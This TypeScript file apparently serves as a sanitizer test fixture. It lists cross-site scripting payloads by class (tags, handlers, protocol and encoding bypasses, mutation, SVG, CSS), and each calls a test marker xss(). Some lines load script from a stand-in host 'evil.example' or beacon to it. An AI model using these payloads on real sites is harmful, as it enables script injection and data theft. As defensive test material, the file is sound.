/** Known ways to run a script from text, by class. Each calls `xss()`, which a test defines in the page; none may run. */
const X = 'xss()'

const TAGS = [
  `<script>${X}</script>`,
  `<SCRIPT>${X}</SCRIPT>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<script\n>${X}</script\n>`,
  `<script src=data:text/javascript,${X}></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script type=module>${X}</script>`,
  `<script>${X}//`,
  `<<script>${X}//<</script>`,
  `</script><script>${X}</script>`,
  `</title><script>${X}</script>`,
  `--><script>${X}</script>`,
  `"><script>${X}</script>`,
  `<iframe src="javascript:parent.${X}"></iframe>`,
  `<iframe onload=${X}></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<object data="data:text/html,<script>parent.${X}</script>"></object>`,
  `<embed src="javascript:${X}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="javascript:${X}">`,
  `<form><button formaction="javascript:${X}">go</button></form>`,
  `<applet code="${X}"></applet>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`,
]

const HANDLERS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'input autofocus onfocus',
  'details open ontoggle',
  'a href=/ onclick',
  'p style="animation: spin 1s" onanimationstart',
  'p tabindex=1 autofocus onfocus',
  'p contenteditable oninput',
  'dialog open onclose',
  'track onerror',
].map((start) => `<${start}=${X}>`)

const ATTRIBUTES = [
  `<img src=x onerror=\`${X}\`>`,
  `<img src=x oNeRrOr=${X}>`,
  `<img/src=x/onerror=${X}>`,
  `<img """><script>${X}</script>">`,
  `<img src='x' title='">' onerror=${X}>`,
  `<a title="x" onmouseover="${X}" href="/">x</a>`,
  `<a href="/" style="position:fixed;inset:0" onmouseover=${X}>x</a>`,
  `<td background="javascript:${X}">x</td>`,
  `<table background="javascript:${X}"><tr><td>x</td></tr></table>`,
  `<img src=x onerror=${X} onerror=${X}>`,
  `" onmouseover="${X}`,
  `x" onload="${X}" y="`,
  `<img src=x o&#110;error=${X}>`,
]

const PROTOCOLS = [
  'javascript:',
  'JaVaScRiPt:',
  '\tjavascript:',
  'java\tscript:',
  'java\0script:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6a;avascript:',
  'javascript:/*--></title>*/',
  'vbscript:',
  'livescript:',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==,',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:javascript:',
  'filesystem:javascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
].map((protocol) => `<a href="${protocol}${X}">press</a>`)

const ENTITIES = [
  `&lt;script&gt;${X}&lt;/script&gt;`,
  `&#x3c;img src=x onerror=${X}&#x3e;`,
  `&amp;lt;script&amp;gt;${X}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${X}\\u003c/script\\u003e`,
  `%3Cscript%3E${X}%3C/script%3E`,
  `+ADw-script+AD4-${X}+ADw-/script+AD4-`,
  `＜script＞${X}＜/script＞`,
  `<s\u0000cript>${X}</script>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${X}">press</a>`,
  `{{constructor.constructor('${X}')()}}`,
  `\${${X}}`,
  `</script>\u2028${X}//`,
]

const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=x onerror=${X}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${X}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${X}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${X}>`,
  `<xmp><p title="</xmp><img src=x onerror=${X}>"></xmp>`,
  `<plaintext><script>${X}</script>`,
  `<listing>&lt;img src=x onerror=${X}&gt;</listing>`,
  `<!--><img src=x onerror=${X}>-->`,
  `<!--!><img src=x onerror=${X}>`,
  `<!-- --!><img src=x onerror=${X}> -->`,
  `<![CDATA[<img src=x onerror=${X}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${X}>`,
  `<textarea><img src=x onerror=${X}></textarea>`,
  `<a href="x\`\`onmouseover=${X}">x</a>`,
  `<img alt="\`<img src=x onerror=${X}>\`">`,
  `<b <script>${X}</script>0`,
]

const SVG = [
  `<svg><script>${X}</script></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text y=20>press</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${X}"/><text y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${X}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe onload=${X}></iframe></foreignObject></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${X}'/>">`,
  `<svg/onload=${X}>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${X}">press</maction></math>`,
]

const CSS = [
  `<style>*{background:url("javascript:${X}")}</style>`,
  `<style>@import "javascript:${X}";</style>`,
  `<p style="background:url(javascript:${X})">x</p>`,
  `<p style="width:expression(${X})">x</p>`,
  `<p style="background:url(//evil.example/beacon)">x</p>`,
  `<p style="text-align:center}body{display:none">x</p>`,
  `<p style="content:'</style><script>${X}</script>'">x</p>`,
  `<p style="\\62 ackground:url(//evil.example/beacon)">x</p>`,
]

export const XSS_PAYLOADS: readonly string[] = [
  ...TAGS,
  ...HANDLERS,
  ...ATTRIBUTES,
  ...PROTOCOLS,
  ...ENTITIES,
  ...MUTATIONS,
  ...SVG,
  ...CSS,
]
